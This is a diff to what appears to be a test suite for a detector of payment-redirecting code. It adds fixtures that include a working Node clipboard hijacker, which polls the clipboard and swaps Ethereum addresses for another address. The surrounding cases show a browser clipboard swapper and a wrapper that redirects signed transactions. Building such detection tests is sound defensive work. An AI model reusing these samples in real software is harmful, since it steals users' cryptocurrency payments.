@@ -15,6 +15,14 @@ examine(replacesRecipients, {
       weight: 'strong',
     },
     {
+      when: 'another file writes into the clipboard what stands in a table beside the looks of an address',
+      files: {
+        'board.js': `const { spawnSync } = require('child_process'); const run = (command, input) => spawnSync(command, { input, encoding: 'utf8' }).stdout; exports.read = () => run('pbpaste'); exports.write = text => run('pbcopy', text);`,
+        'index.js': `const board = require('./board'); const rules = [{ look: /^0x[a-fA-F0-9]{40}$/, to: '${ETHEREUM}' }]; exports.watch = () => setInterval(() => { const text = board.read(); const hit = rules.find(rule => rule.look.test(text)); if (hit) board.write(hit.to); }, 700);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a function that another one has made reads the clipboard and puts there what that was given',
       files: {
         'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; const swap = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/); document.addEventListener('copy', () => setTimeout(swap, 0));`,
@@ -179,6 +187,13 @@ const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.
       when: 'a router wraps what signs, and puts what was asked for into its own call',
       files: {
         'index.js': `const ROUTER = '${ETHEREUM}'; exports.route = (signer, encode) => { const send = signer.sendTransaction; signer.sendTransaction = function (tx) { tx.data = encode(tx); tx.to = ROUTER; return send.call(this, tx); }; };`,
+      },
+    },
+    {
+      when: 'another file copies an address for donations, and looks of addresses are known elsewhere',
+      files: {
+        'board.js': `const { spawnSync } = require('child_process'); exports.write = input => spawnSync('pbcopy', { input }); exports.read = () => spawnSync('pbpaste').stdout.toString();`,
+        'index.js': `const board = require('./board'); exports.isAddress = text => /^0x[a-fA-F0-9]{40}$/.test(text); exports.donate = () => board.write('${ETHEREUM}');`,
       },
     },
     {
